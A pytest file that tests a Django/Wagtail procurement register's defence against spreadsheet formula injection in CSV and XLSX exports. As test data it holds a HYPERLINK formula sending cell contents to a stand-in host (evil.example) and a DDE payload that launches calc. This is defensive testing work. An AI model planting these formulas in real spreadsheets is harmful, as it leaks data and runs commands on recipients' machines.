"""The one formula-escaping function every export goes through."""

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from ita_wagtail.exporting.escaping import (
    FORMULA_TRIGGERS,
    escape_formula,
    escape_row,
    safe_cell,
)
from ita_wagtail.exporting.spreadsheets import Sheet, cell_text, csv_text, xlsx_bytes
from ita_wagtail.models import Procurement, ResponsibleUnit

from .factories import make_procurement, tax_id


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_triggers_are_neutralised(prefix):
    assert escape_formula(f"{prefix}SUM(A1:A9)") == f"'{prefix}SUM(A1:A9)"


def test_the_triggers_are_the_issues_list():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(
    "value",
    [
        "ร้านรุ่งเรือง",
        "1/2568",
        "",
        " =not at the start",
        "'=already quoted",
        None,
        5,
        Decimal("-1.00"),
    ],
)
def test_other_values_pass_unchanged(value):
    assert escape_formula(value) == value


def test_escape_row():
    assert escape_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


def test_csv_cells_escape_text_and_format_numbers_and_dates():
    assert cell_text("=1+1") == "'=1+1"
    assert cell_text(Decimal("1234.5")) == "1234.50"
    assert cell_text(date(2024, 10, 5)) == "5/10/2567"
    text = csv_text(
        Sheet("s", header=["=h"], rows=[["-2+3", Decimal("1")]], preamble=["@title"])
    )
    assert text.splitlines() == ["\ufeff'@title", "'=h", "'-2+3,1.00"]


def test_xlsx_cells_are_never_formulas():
    import io

    from openpyxl import load_workbook

    data = xlsx_bytes(
        [
            Sheet(
                "s",
                header=["=h"],
                rows=[["=HYPERLINK(1)", Decimal("5")]],
                preamble=["+x"],
            )
        ]
    )
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.value for c in cells if c.value is not None] == [
        "'+x",
        "'=h",
        "'=HYPERLINK(1)",
        5,
    ]
    assert not any(cell.data_type == "f" for cell in cells)


# -- every export, a hostile value in every text column --------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"คลิก")'


class Named:
    """A related object: what a foreign-key column hands the writer."""

    def __init__(self, name):
        self.name = name

    def __str__(self):
        return self.name


def test_safe_cell_escapes_every_type_but_numbers_and_dates():
    assert safe_cell(Named("=1+1")) == "'=1+1"
    assert safe_cell(["-1", "x"]) == "['-1', 'x']"
    from django.utils.translation import gettext_lazy

    assert safe_cell(gettext_lazy("@x")) == "'@x"
    for value in (None, 5, 1.5, True, Decimal("-1.00"), date(2024, 1, 1)):
        assert safe_cell(value) == value


def test_the_sheet_writer_escapes_objects_in_any_column():
    sheet = Sheet(
        "s",
        header=[Named("=head")],
        rows=[[Named(HOSTILE), "ok", 3]],
        preamble=[Named("+pre")],
        footer=[[Named("-foot")]],
    )
    assert csv_text(sheet).splitlines()[1:] == [
        "'=head",
        f'"\'{HOSTILE.replace(chr(34), chr(34) * 2)}",ok,3',
        "'-foot",
    ]
    book = load_workbook(io.BytesIO(xlsx_bytes([sheet])))
    assert live(cells_of(book)) == []
    assert "'" + HOSTILE in values_of(book)


def cells_of(book):
    return [
        cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    ]


def values_of(book):
    return [cell.value for cell in cells_of(book)]


def live(cells):
    """Cells a spreadsheet program would run: formulas, or text starting like one."""
    bad = []
    for cell in cells:
        value = cell.value if hasattr(cell, "value") else cell
        if (
            getattr(cell, "data_type", None) == "f"
            or isinstance(value, str)
            and value.startswith(FORMULA_TRIGGERS)
        ):
            bad.append(value)
    return bad


def hostile_record():
    """A record whose every text column, the unit's name included, is hostile."""
    unit = ResponsibleUnit.objects.create(name=HOSTILE)
    return make_procurement(
        egp_number="+6710900001",
        reference_number="-1/2568",
        name=HOSTILE,
        selected_supplier="@SUM(1+1)",
        selected_supplier_tax_id="=1+1",
        selection_reason="\t=cmd|' /C calc'!A0",
        contract_number="=1+1",
        responsible_unit=unit,
        remarks=HOSTILE,
        bids=[(HOSTILE, "100.00", tax_id(3))],
    )


def csv_cells(data):
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return [
        cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row
    ]


def body(response):
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_listing_export_escapes_every_column(admin_client, fmt):
    hostile_record()
    url = reverse(Procurement.snippet_viewset.get_url_name("list"))
    data = body(admin_client.get(url, {"export": fmt}))
    if fmt == "csv":
        cells = csv_cells(data)
        values = cells
    else:
        book = load_workbook(io.BytesIO(data))
        cells, values = cells_of(book), values_of(book)
    assert live(cells) == []
    # The responsible unit is an object, not a string: escaped all the same.
    assert values.count("'" + HOSTILE) >= 2  # item name and unit
    assert "'@SUM(1+1)" in values and "'=1+1" in values
    assert "'+6710900001" in values and "'-1/2568" in values


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_public_register_download_escapes_every_column(client, fmt):
    from ita_wagtail import models as ita
    from ita_wagtail.setup import setup_ita_section

    from .factories import default_site

    report = setup_ita_section(default_site())
    pages = {type(step.page): step.page for step in report.steps}
    for model in (ita.ItaIndexPage, ita.ProcurementIndexPage):
        pages[model].save_revision().publish()
    register = ita.ProcurementIndexPage.objects.get(
        pk=pages[ita.ProcurementIndexPage].pk
    )
    hostile_record()
    url = f"{register.relative_url(default_site())}download/2568/{fmt}/"
    data = body(client.get(url))
    if fmt == "csv":
        cells = values = csv_cells(data)
    else:
        book = load_workbook(io.BytesIO(data))
        cells, values = cells_of(book), values_of(book)
    assert live(cells) == []
    assert values.count("'" + HOSTILE) >= 2


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_command_escapes_every_column(tmp_path, fmt):
    hostile_record()
    path = tmp_path / f"register.{fmt}"
    call_command(
        "ita_export_procurement",
        "--fiscal-year",
        "2568",
        "--format",
        fmt,
        "--output",
        str(path),
    )
    if fmt == "csv":
        cells = values = csv_cells(path.read_bytes())
    else:
        book = load_workbook(path)
        cells, values = cells_of(book), values_of(book)
    assert live(cells) == []
    assert values.count("'" + HOSTILE) >= 2


def test_rejected_rows_escape_every_column():
    from ita_wagtail.importing.rejected import rejected_rows_bytes

    report = {
        "sheets": [{"name": "=Sheet", "fiscal_year": None}],
        "rejected": [
            {
                "name": "=Sheet",
                "header": [HOSTILE, "ชื่อ"],
                "rows": [[2, [HOSTILE, "-2+3", "@x", 5], "=message"]],
            }
        ],
    }
    book = load_workbook(
        io.BytesIO(rejected_rows_bytes(json.loads(json.dumps(report))))
    )
    assert live(cells_of(book)) == []
    assert values_of(book).count("'" + HOSTILE) == 2


def test_every_admin_spreadsheet_export_escapes_cells():
    """Each listing or report with Wagtail's export goes through the cell escaping."""
    import importlib
    import pkgutil

    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    import ita_wagtail
    from ita_wagtail.exporting.escaping import FormulaEscapingExportMixin

    for module in pkgutil.walk_packages(ita_wagtail.__path__, "ita_wagtail."):
        if ".migrations" in module.name or ".management" in module.name:
            continue
        try:
            importlib.import_module(module.name)
        except ImportError:  # optional extras (wagtail-modeladmin)
            continue

    def ours(cls):
        for sub in cls.__subclasses__():
            if sub.__module__.startswith("ita_wagtail."):
                yield sub
            yield from ours(sub)

    views = set(ours(SpreadsheetExportMixin))
    assert len(views) >= 6
    missing = [v for v in views if not issubclass(v, FormulaEscapingExportMixin)]
    assert missing == []
